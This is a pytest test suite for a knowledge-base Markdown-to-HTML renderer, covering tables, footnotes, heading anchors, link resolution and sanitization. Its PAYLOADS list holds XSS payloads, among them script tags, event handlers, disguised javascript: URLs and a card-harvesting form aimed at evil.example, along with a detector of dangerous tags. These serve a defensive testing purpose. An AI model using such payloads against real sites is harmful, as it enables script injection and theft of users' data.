import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb_builder.render import DeadLink, Fault, Heading, Renderer, Section

RENDERER = Renderer()


def render(body, resolve=lambda href: href):
    return RENDERER.render(body, resolve)


@pytest.mark.parametrize(
    ("body", "html"),
    [
        pytest.param("Text **bold** `code`", "<p>Text <strong>bold</strong> <code>code</code></p>", id="paragraph"),
        pytest.param("Term\n: What it is", "<dl>\n<dt>Term</dt>\n<dd>What it is</dd>\n</dl>", id="definition"),
        pytest.param("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>", id="list"),
        pytest.param(
            '!!! note "알아 두세요"\n    Body',
            '<div class="admonition note">\n<p class="admonition-title">알아 두세요</p>\n<p>Body</p>\n</div>',
            id="admonition",
        ),
        pytest.param(
            '??? question "More"\n    Body',
            '<details class="question">\n<summary>More</summary>\n<p>Body</p>\n</details>',
            id="details",
        ),
        pytest.param("<kbd>Ctrl</kbd> <mark>x</mark>", "<p><kbd>Ctrl</kbd> <mark>x</mark></p>", id="harmless HTML"),
        pytest.param("a <!-- note to self --> b", "<p>a  b</p>", id="comment"),
        pytest.param("`<script>`", "<p><code>&lt;script&gt;</code></p>", id="HTML shown as code"),
        pytest.param("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>", id="signs"),
        pytest.param(
            "![상자](box.png)",
            '<p><img alt="상자" decoding="async" loading="lazy" src="box.png"></p>',
            id="picture",
        ),
        pytest.param(
            "Text[^1].\n\n[^1]: Note.",
            '<p>Text<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>.</p>\n'
            '<div class="footnote">\n<hr>\n<ol>\n<li id="fn:1">\n'
            '<p>Note.&nbsp;<a class="footnote-backref" href="#fnref:1"'
            ' title="Jump back to footnote 1 in the text">↩</a></p>\n'
            "</li>\n</ol>\n</div>",
            id="footnote",
        ),
        pytest.param(
            "| a | b | c | d |\n|:--|--:|:-:|---|\n| 1 | 2 | 3 | 4 |",
            '<div class="kb-table" tabindex="0"><table>\n<thead>\n<tr>\n'
            '<th class="kb-left">a</th>\n<th class="kb-right">b</th>\n'
            '<th class="kb-center">c</th>\n<th>d</th>\n'
            "</tr>\n</thead>\n<tbody>\n<tr>\n"
            '<td class="kb-left">1</td>\n<td class="kb-right">2</td>\n'
            '<td class="kb-center">3</td>\n<td>4</td>\n'
            "</tr>\n</tbody>\n</table></div>",
            id="table",
        ),
        pytest.param("", "", id="nothing"),
    ],
)
def test_markdown_becomes_html(body, html):
    rendered = render(body)

    assert (rendered.html, rendered.faults) == (html, ())


def test_code_block_is_shown_as_it_was_written():
    html = render("```\nif a < b: {{ fee }}\n```").html

    assert re.sub("<[^>]*>", "", html) == "if a &lt; b: {{ fee }}\n"


def test_headings_get_anchors_below_the_only_h1():
    rendered = render("# One\n\n## 배송 & **반품**\n\n### `Deep`\n\n## One")

    assert rendered.headings == (
        Heading("one", "One", 2),
        Heading("배송-반품", "배송 & 반품", 2),
        Heading("deep", "Deep", 3),
        Heading("one-2", "One", 2),
    )
    assert rendered.html == (
        '<h2 id="one">One</h2>\n<h2 id="배송-반품">배송 &amp; <strong>반품</strong></h2>\n'
        '<h3 id="deep"><code>Deep</code></h3>\n<h2 id="one-2">One</h2>'
    )


def test_writer_may_choose_an_anchor():
    assert [heading.id for heading in render("## B\n\n## A {#b}\n\n## B\n").headings] == ["b-2", "b", "b-3"]


def test_anchor_chosen_twice_is_numbered():
    assert [heading.id for heading in render("## A {#same}\n\n## B {#same}\n").headings] == ["same", "same-2"]


def test_anchors_of_one_article_say_nothing_to_the_next():
    assert render("## Same").headings == render("## Same").headings == (Heading("same", "Same", 2),)


def test_links_lead_where_they_are_resolved():
    asked = []

    def resolve(href):
        asked.append(href)
        return "../found/"

    html = render("[a](some-id#step) ![b](box.png) [c][ref] <d@shop.example>\n\n[ref]: other.md", resolve).html

    assert asked == ["some-id#step", "box.png", "other.md", "mailto:d@shop.example"]
    assert re.findall(r'(?:href|src)="([^"]*)"', html) == ["../found/"] * 4


def test_dead_link_is_a_fault_on_its_line():
    def resolve(href):
        raise DeadLink("KB204", f"link to missing article {href!r}", "did you mean 'refund'?")

    assert render("One.\n\nTwo [link](refnd).\n", resolve).faults == (
        Fault("KB204", "link to missing article 'refnd'", "did you mean 'refund'?", 2),
    )


def test_body_is_cut_into_sections_at_its_second_and_third_headings():
    body = (
        "Lead one,\nsame line.\n\nLead two.\n\n## First & last\n\nText **bold**.\n\n"
        "### Deep\n\n- one\n- two\n\n#### Deeper\n\n| a | b |\n|---|---|\n| 1 |  |\n| x | y |\n"
    )

    assert render(body).sections == (
        Section("", "", "Lead one, same line.\nLead two."),
        Section("first-last", "First & last", "Text bold."),
        Section("deep", "Deep", "one\ntwo\nDeeper\na · b\n1\nx · y"),
    )


def test_text_of_a_section_holds_what_readers_see():
    body = "A[^1] <!-- no --> ![그림](a.png) `code` a&amp;b<br>c\n\n[^1]: Note."

    assert render(body).sections == (Section("", "", "A 그림 code a&b\nc\nNote."),)


@pytest.mark.parametrize(
    ("body", "summary"),
    [
        ("One **two**.\n\nThree.", "One two."),
        ("## Heading\n\nOne.\n", "One."),
        ("- one\n- two\n", "one"),
        ("## Only a heading\n", ""),
        ("", ""),
    ],
)
def test_summary_is_the_first_paragraph(body, summary):
    assert render(body).summary == summary


def tag(name):
    return f"<{name}> is not allowed on a page", "write it in Markdown, or put it in `code` to show it"


def attribute(name, element):
    return f"{name!r} on <{element}> is not allowed on a page", f"remove {name!r}"


def scheme(name):
    return (
        f"an address that begins with '{name}:' is not allowed on a page",
        "link to https://, mailto: or tel:",
    )


PAYLOADS = {
    "<script>alert(1)</script>": [tag("script")],
    "Hello <SCRIPT src=//evil.example/x.js></SCRIPT>": [tag("script")],
    "<img src=x onerror=alert(1)>": [attribute("onerror", "img")],
    "<img src=x ONERROR=alert(1)>": [attribute("onerror", "img")],
    "<image src=x onerror=alert(1)>": [tag("image")],
    "<svg onload=alert(1)></svg>": [tag("svg")],
    "<details open ontoggle=alert(1)><summary>a</summary></details>": [attribute("ontoggle", "details")],
    "[a](javascript:alert(1))": [scheme("javascript")],
    "[a](JaVaScRiPt:alert(1))": [scheme("javascript")],
    "[a][b]\n\n[b]: javascript:alert(1)": [scheme("javascript")],
    "![a](javascript:alert(1))": [scheme("javascript")],
    "<a href=javascript:alert(1)>a</a>": [scheme("javascript")],
    "<a href='java\nscript:alert(1)'>a</a>": [scheme("javascript")],
    "<a href='&#106;avascript:alert(1)'>a</a>": [scheme("javascript")],
    "<a href=' javascript:alert(1)'>a</a>": [scheme("javascript")],
    "[a](vbscript:x)": [scheme("vbscript")],
    "[a](data:text/html,x)": [scheme("data")],
    "<iframe src=https://evil.example></iframe>": [tag("iframe")],
    "<form action=https://evil.example><input name=card><button>Pay</button></form>": [
        tag("form"),
        tag("input"),
        tag("button"),
    ],
    "<base href=https://evil.example/>": [tag("base")],
    "<meta http-equiv=refresh content='0;url=https://evil.example'>": [tag("meta")],
    "<link rel=stylesheet href=https://evil.example/x.css>": [tag("link")],
    "<object data=x></object>": [tag("object")],
    "<embed src=x>": [tag("embed")],
    "<video src=x autoplay></video>": [tag("video")],
    "<math><mi></mi></math>": [tag("math"), tag("mi")],
    "<template><b>a</b></template>": [tag("template")],
    "<style>p { color: red }</style>": [tag("style")],
    "<p style='color:red'>a</p>": [attribute("style", "p")],
    "a\n{: style='color:red' }": [attribute("style", "p")],
    "[a](b){onclick=x}": [attribute("onclick", "a")],
    "# A {onclick=x}": [attribute("onclick", "h2")],
    "<a href=b ping=c>a</a>": [attribute("ping", "a")],
    "<a href=b target=_blank>a</a>": [attribute("target", "a")],
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>": [tag("noscript")],
}


@pytest.mark.parametrize(("body", "told"), PAYLOADS.items())
def test_forbidden_html_is_a_fault(body, told):
    assert render(f"Lead.\n\n{body}").faults == tuple(
        Fault("KB112", message, mend, render_line(body)) for message, mend in told
    )


def render_line(body):
    if body.startswith(("<a href='java\n", "<a href='&#106;")):
        return 0  # an address in disguise cannot be looked for
    # What a link refers to stands two lines below it.
    return 4 if body.startswith("[a][b]") else 3 if body.startswith("a\n{:") else 2


class Danger(HTMLParser):
    """Collects whatever could run, load or send something."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in (
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "form",
            "input",
            "button",
            "base",
            "meta",
            "link",
            "object",
            "embed",
            "video",
            "template",
            "noscript",
        ):
            self.found.append(tag)
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").casefold()
            if (
                name.startswith("on")
                or name in ("style", "ping", "target", "formaction")
                or re.match("(javascript|vbscript|data):", address)
            ):
                self.found.append((tag, name, value))


@pytest.mark.parametrize("body", PAYLOADS)
def test_forbidden_html_is_not_rendered_even_so(body):
    assert Danger(render(body).html).found == []


PIECES = [
    *PAYLOADS,
    "<", ">", "\"", "'", "`", "\n", "\n\n", "    ", "</script>", "<script", " onerror=alert(1)", "<!--",
    "-->",    "<a href=\"", "](javascript:alert(1))", "[", "**", "\x02wzxhzdk:0\x03", "{: onclick=x }",
    "&lt;script&gt;",    "&#x3c;script>", "<div markdown>", "<p", "\0", "```",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_no_mix_of_pieces_gets_through(body):
    assert Danger(render(body).html).found == []


def test_table_with_a_style_of_its_own_keeps_only_its_alignment():
    html = render('<table markdown><tr><td style="text-align: right; color: red">1</td></tr></table>').html

    assert ("kb-right" in html, Danger(html).found) == (True, [])


def test_writers_extensions_are_added():
    renderer = Renderer(["abbr"])

    assert renderer.render("CJ\n\n*[CJ]: CJ Logistics", str).html == '<p><abbr title="CJ Logistics">CJ</abbr></p>'
